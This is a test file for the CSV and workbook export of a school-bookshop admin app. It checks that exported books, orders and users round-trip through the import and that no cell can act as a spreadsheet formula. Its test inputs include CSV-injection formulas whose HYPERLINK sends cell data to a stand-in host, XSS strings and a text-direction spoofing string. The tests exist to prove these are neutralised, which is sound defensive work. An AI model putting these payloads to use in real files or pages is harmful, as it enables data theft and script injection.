import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { workbookFile } from "#app/lib/tables/write-workbook.ts";
import { readBookImportRow } from "#app/office/catalogue/book-import/book-import.ts";
import {
  bookImportColumns,
  mapBookImportColumns,
} from "#app/office/catalogue/book-import/book-import-columns.ts";
import type { BookTable, TableRow } from "#app/office/catalogue/book-import/book-table.ts";
import { readTableFile } from "#app/office/catalogue/book-import/workbook-table.ts";
import { bookColumns } from "#app/office/catalogue/books/book-export.ts";
import { cellsOf, exportFileName } from "#app/office/frame/export/export-table.ts";
import { userColumns } from "#app/office/people/users/user-export.ts";
import { csvLine } from "#shared/tables/csv.ts";
import type { TableCell } from "#shared/tables/table-file.ts";
import { pesewasFromCedis } from "#shared/text/money.ts";
import { orderColumns, orderTable } from "./order-export.ts";

const rowLine = <Row>(columns: Readonly<Record<string, (row: Row) => TableCell>>, row: Row) =>
  csvLine(cellsOf(columns, row));

/** Starts of a cell that a spreadsheet would calculate. */
const FORMULAS = ["=", "+", "-", "@", "＝", "\u00a0=", "\u200b-"].map(
  (sign) => `${sign}HYPERLINK("//x.example?"&A1,"Ama")`,
);

/** Markup, signs that turn the writing direction, and what separates cells: all of it is text like any other. */
const PLAIN_TEXTS = [
  "<img src=x onerror=alert(1)>",
  "</td><script>alert(1)</script>",
  "Ama \u202eexe.slx\u202c \u20661+1\u2069",
  '"},=1+1,"',
  "two lines,\r\n1+1",
];

const book = {
  id: "0b5c1f1e-0000-4000-8000-00000000000a",
  title: '=Cambridge, “Lower” "Secondary"',
  authors: 'Ama "Kofi" Ata, Jr; Ɛsi Ébène',
  publisher: "Schofield & Sims",
  isbn: "9780306406157",
  price: pesewasFromCedis(45.5),
  stock_quantity: 12,
  course: "Primary",
  subject: "Mathematics",
  grade_level: "Grade 4",
  age_range: "9-10",
  curriculum_type: "Cambridge",
  shelf: "Rack 3, top",
  edition: "2nd Edition",
  description: "Twi: ɛ, ɔ.\nTwo lines, ₵.",
  image_url: null,
  kind: "book",
  digital_by: null,
  sale_state: "coming_soon",
  available_on: "2027-01",
  newer_isbn: "9780140449136",
  average_rating: 4.5,
  review_count: 2,
  created_at: "2026-11-20T08:05:06.789+00:00",
  marks: "m0a1b2c",
};

const order = {
  id: "o1",
  number: 1042,
  user_id: "u1",
  created_at: "2026-11-20T08:05:06+00:00",
  status: "pending" as const,
  stock_held: true,
  paid_amount: pesewasFromCedis(20),
  owed_back: pesewasFromCedis(0),
  kept_amount: pesewasFromCedis(0),
  returned_amount: pesewasFromCedis(0),
  shipments: [],
  payment_state: "due",
  total_amount: pesewasFromCedis(90),
  customer_name: "Ama",
  customer_email: "ama@school.example",
  customer_phone: "+233201234567",
  recipient_name: null as unknown as string,
  recipient_email: "store@school.example",
  recipient_phone: "020 123",
  shipping_address: "4 School Lane, Kumasi",
  region: "Ashanti",
  landmark: "Opposite the post office",
  digital_address: "AK-039-5028",
  delivery_method: "bus_station",
  bus_station: "VIP, Asafo",
  delivery_note: null as unknown as string,
  customer_reference: "PO 17",
  delivery_fee: pesewasFromCedis(15),
  carrier: "VIP",
  parcel_number: "GT 4711-20",
  driver_phone: "0244123456",
  title: "Atlas",
  publisher: "CGP",
  isbn: "9780306406157",
  quantity: 2,
  price: pesewasFromCedis(45),
  isFirst: true,
};

const user = {
  id: "u1",
  full_name: "@Ama",
  email: "a@b.example",
  phone: "",
  role: "admin",
  created_at: "2026-01-02",
};

const tables = [
  ["books", bookColumns, book],
  ["orders", orderColumns, order],
  ["users", userColumns, user],
] as const;

describe("the exported tables", () => {
  it("write a book so that the import reads it back unchanged", () => {
    const [headings = [], cells = []] = parse(
      csvLine(Object.keys(bookColumns)) + rowLine(bookColumns, book),
    ) as string[][];
    const result = readBookImportRow({ cells, line: 2 }, mapBookImportColumns(headings));
    const { average_rating, review_count, created_at, ...fields } = { ...book, price: 45.5, seen_stock: 12 };
    expect(result).toEqual({ row: { line: 2, cells, problems: [], ...fields }, hints: [] });
  });

  it("write texts that look like numbers, dates and formulas so that the import reads them back unchanged", () => {
    const texts = {
      title: "007",
      authors: "'1984",
      publisher: "1E5",
      isbn: "0012345",
      course: "01/02",
      subject: "=1+1",
      grade_level: "1",
      age_range: "9-11",
      curriculum_type: "TRUE",
      shelf: "3-4",
      edition: "May 2024",
      description: "10:30",
      available_on: "2027-01",
    };
    const [headings = [], cells = []] = parse(
      csvLine(Object.keys(bookColumns)) + rowLine(bookColumns, { ...book, ...texts }),
    ) as string[][];
    const mapping = mapBookImportColumns(headings);
    for (const [field, text] of Object.entries(texts))
      expect(cells[mapping.columns[field as keyof typeof texts] ?? -1]).toBe(`'${text}`);
    const read = readBookImportRow({ cells, line: 2 }, mapping);
    expect(read.row).toMatchObject({ ...texts, problems: [] });
    expect(read.hints).toEqual([]);
  });

  it("write a digital title of files so that the import reads it back, without its meaningless stock", () => {
    const file = { ...book, kind: "digital", digital_by: "file", stock_quantity: 1_000_000 };
    const [headings = [], cells = []] = parse(
      csvLine(Object.keys(bookColumns)) + rowLine(bookColumns, file as never),
    ) as string[][];
    const { row } = readBookImportRow({ cells, line: 2 }, mapBookImportColumns(headings));
    expect(row).toMatchObject({ kind: "digital", digital_by: "file", stock_quantity: null, problems: [] });
    expect(row).not.toHaveProperty("seen_stock");
  });

  it("write a book into a workbook so that the import reads it back unchanged", async () => {
    const title = "'=Cambridge; '-1\r\n+2";
    const file = await workbookFile(Object.keys(bookColumns));
    await file.add([cellsOf(bookColumns, { ...book, title })]);
    const bytes = new Uint8Array(await (await file.finish()).arrayBuffer());
    const table = (await readTableFile(bytes, { known: bookImportColumns, maxRows: 9 })) as BookTable;
    const [row] = table.rows;
    const result = readBookImportRow(row as TableRow, mapBookImportColumns(table.headings));
    const { average_rating, review_count, created_at, ...fields } = {
      ...book,
      title,
      price: 45.5,
      seen_stock: 12,
    };
    expect(result).toEqual({ row: { line: 2, cells: row?.cells, problems: [], ...fields }, hints: [] });
    expect(row?.cells[table.headings.indexOf("Added")]).toBe("2026-11-20 08:05");
  });

  it.each([
    ["9780306406157", "978-0-306-40615-7"],
    ["9789990000009", /^978-/],
    ["978030640615", "978-030640615"],
    ["AB978030640615", "AB978030640615"],
    ["978030640615AB", "978030640615AB"],
    ["AB-0001", "AB-0001"],
    [null, ""],
  ])("write the ISBN %j as text that a spreadsheet does not round", (isbn, written) => {
    const [cells = []] = parse(rowLine(bookColumns, { ...book, isbn })) as string[][];
    expect(cells[3]).toMatch(written instanceof RegExp ? written : new RegExp(`^${written}$`));
  });

  it.each(tables)(
    "of %s contain no formula and change no other text, whatever was typed",
    (_, columns, row) => {
      const headings = Object.keys(columns);
      const isTyped = (value: unknown) => typeof value === "string" && Number.isNaN(Date.parse(value));
      for (const text of [...FORMULAS, ...PLAIN_TEXTS]) {
        const typed = Object.entries(row).map(([field, value]) => [field, isTyped(value) ? text : value]);
        const cells = parse(rowLine<never>(columns, Object.fromEntries(typed) as never)) as string[][];
        expect(cells, text).toHaveLength(1);
        expect(cells[0], text).toHaveLength(headings.length);
        const written = FORMULAS.includes(text) ? `'${text}` : text;
        expect(cells[0]?.filter((cell) => cell === written).length, text).toBeGreaterThanOrEqual(5);
        for (const cell of cells[0] ?? []) expect(cell, text).not.toMatch(/^[=+\-@\t\r]/);
      }
    },
  );

  it("write an order line by line, its total once, so that both columns can be summed", () => {
    const lines = [
      { title: "Atlas", publisher: "CGP", isbn: "9780306406157", quantity: 3, price: pesewasFromCedis(20.1) },
      { title: "=Globe", publisher: null, isbn: null, quantity: 1, price: pesewasFromCedis(29.7) },
    ];
    const { isFirst, title, publisher, isbn, quantity, price, ...rest } = order;
    const head =
      '1042,o1,2026-11-20 08:05,pending,Ama,ama@school.example,\'+233201234567,,store@school.example,020 123,"4 School Lane, Kumasi",Ashanti,Opposite the post office,AK-039-5028,Bus parcel station,"VIP, Asafo",,PO 17,VIP,GT 4711-20,0244123456';
    expect(
      orderTable
        .linesOf({ ...rest, lines })
        .map(csvLine)
        .join(""),
    ).toBe(
      `${head},Atlas,CGP,978-0-306-40615-7,3,20.10,60.30,15.00,90.00,0.00,20.00,0.00,,,\r\n${head},'=Globe,,,1,29.70,29.70,,,,,,,,\r\n`,
    );
    expect(
      orderTable
        .linesOf({ ...rest, lines: [] })
        .map(csvLine)
        .join(""),
    ).toBe(`${head},,,,,,,15.00,90.00,0.00,20.00,0.00,,,\r\n`);
  });

  it("write the copies that an order's parcels took once, and on each line how the last of them went", () => {
    const { isFirst, title, publisher, isbn, quantity, price, ...rest } = order;
    const line = { title: "Atlas", publisher, isbn, quantity, price };
    const parcel = (day: number, carrier: string | null, parcel_number: string | null) => ({
      undone_at: null,
      created_at: `2026-11-2${day}T10:00:00Z`,
      carrier,
      parcel_number,
      lines: [{ copies: 3 }, { copies: 1 }],
    });
    const shipments = [
      parcel(3, "=STC", "17"),
      parcel(2, "VIP", null),
      { ...parcel(4, "OA", "9"), undone_at: "2026-11-24T11:00:00Z" },
    ];
    const cells = orderTable.linesOf({ ...rest, shipments, lines: [line, line] });
    expect(cells.map((row) => csvLine(row.slice(-3)))).toEqual(["8,'=STC,17\r\n", ",'=STC,17\r\n"]);
  });

  it("write a user with their role", () => {
    expect(rowLine(userColumns, user)).toBe("'@Ama,a@b.example,,admin,2026-01-02 00:00,u1\r\n");
  });

  it("are named after their contents and the date", () => {
    const at = new Date("2026-11-20T23:59:00Z");
    expect(exportFileName("books", false, at)).toBe("books-2026-11-20");
    expect(exportFileName("orders", true, at)).toBe("orders-matching-2026-11-20");
  });
});
